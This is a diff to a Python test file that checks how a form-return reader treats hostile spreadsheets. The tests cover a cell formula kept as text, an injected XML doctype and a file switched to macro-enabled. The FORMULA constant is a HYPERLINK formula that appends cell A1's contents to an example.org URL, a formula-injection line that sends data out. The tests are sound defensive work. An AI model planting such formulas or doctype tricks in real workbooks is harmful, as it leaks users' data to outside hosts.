@@ -17,12 +17,13 @@ import pytest
 from kalyp.loop import crew, guard
 from kalyp.loop import pdf as reading
 from kalyp.loop.guard import MEGABYTE, Refused
-from kalyp.loop.package import LARGEST_PART, Package, checked, parsed
+from kalyp.loop.package import LARGEST_PART, TYPES, Package, checked, parsed
 from kalyp.loop.returns import read_return
 from kalyp.say import Speaker
 from tests.built import Built
 from tests.loop import hostile
-from tests.loop.forms import PERSON, filled, saved_twice
+from tests.loop.cells import Sheets
+from tests.loop.forms import PERSON, blank, filled, saved_twice
 from tests.support import ROOT
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Айгүл")'
@@ -153,6 +154,20 @@ def test_a_formula_is_text(built: Built, tmp_path: Path, form: str) -> None:
     [found] = read_return(built.project, tmp_path, path)
     assert found.values["full-name"] == FORMULA
     assert [finding.code for finding in found.findings] == ["levels-none"]
+
+
+def test_a_formula_in_a_workbook_is_text_and_its_traps_are_seen(built: Built, tmp_path: Path) -> None:
+    sheets = Sheets(blank(built, "kg-4.2", "ru", "xlsx"))
+    sheets.type({"staff.1.name": FORMULA})
+    book = sheets.saved()
+    shaky = hostile.altered(book, "xl/workbook.xml", lambda xml: hostile.FETCHED.encode() + xml.partition(b"?>")[2])
+    macros = hostile.altered(book, TYPES, lambda xml: xml.replace(*hostile.XLSM))
+    files = {"a.xlsx": (book, []), "b.xlsx": (shaky, ["xml-doctype"]), "c.xlsm": (macros, ["macros"])}
+    for name, (data, codes) in files.items():
+        (tmp_path / name).write_bytes(data)
+        [found] = read_return(built.project, tmp_path, tmp_path / name)
+        assert [finding.code for finding in found.findings] == codes, name
+        assert found.values.get("staff.1.name") == (None if "xml-doctype" in codes else FORMULA), name
 
 
 # --- Listing ---
@@ -317,8 +332,8 @@ def _why(result: int | crew.Lost) -> int | str:
 def test_a_process_that_hangs_dies_or_takes_all_memory_costs_its_task_alone() -> None:
     tasks = ["a", "slow", "bb", "dies", "memory", "ccc", "busy", "raises", "dies", "dddd"]
     started = time.monotonic()
-    found = [(task, _why(result)) for task, result in crew.results(_work, tasks, seconds=2, memory=300 * MEGABYTE)]
-    assert time.monotonic() - started < 30
+    found = [(task, _why(result)) for task, result in crew.results(_work, tasks, seconds=1, memory=300 * MEGABYTE)]
+    assert time.monotonic() - started < 60
     wanted = {"slow": "slow", "busy": "slow", "dies": "died", "raises": "died", "memory": "memory"}
     assert sorted(found) == sorted((task, wanted.get(task, len(task))) for task in tasks)
 
